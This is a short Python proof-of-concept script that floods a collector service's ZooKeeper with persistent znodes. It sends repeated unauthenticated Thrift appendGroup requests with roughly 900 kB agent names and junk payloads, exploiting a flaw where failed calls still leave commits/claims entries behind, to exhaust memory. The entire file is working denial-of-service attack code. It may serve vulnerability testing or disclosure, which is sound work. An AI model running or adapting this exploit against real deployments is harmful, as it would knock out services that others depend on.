"""Fill the collector's ZooKeeper with persistent znodes named by an unauthenticated sender:
appendGroup with a ~900 kB agent name and an invalid payload (answered FAILED, yet
commits/claims/<agent> stays).  usage: zk_oom.py RPCPORT N [SECONDS]"""
import sys, socket, os, time
sys.path.insert(0, os.path.dirname(__file__))
from thriftraw import *
port, n = int(sys.argv[1]), int(sys.argv[2])
limit = float(sys.argv[3]) if len(sys.argv) > 3 else 120
t0 = time.time()
for i in range(n):
    if time.time() - t0 > limit: break
    agent = f"{i:06d}-" + "C" * 900_000
    try:
        c = socket.create_connection(("127.0.0.1", port), timeout=10)
        c.sendall(append_group(agent, 1, b"junk", 1))
        r = read_reply(c, 10); c.close()
    except OSError as e:
        r = repr(e).encode()
    if i % 25 == 0: print(i, round(time.time() - t0, 1), "s", r[-80:], flush=True)
print("sent", i + 1, "in", round(time.time() - t0, 1), "s")
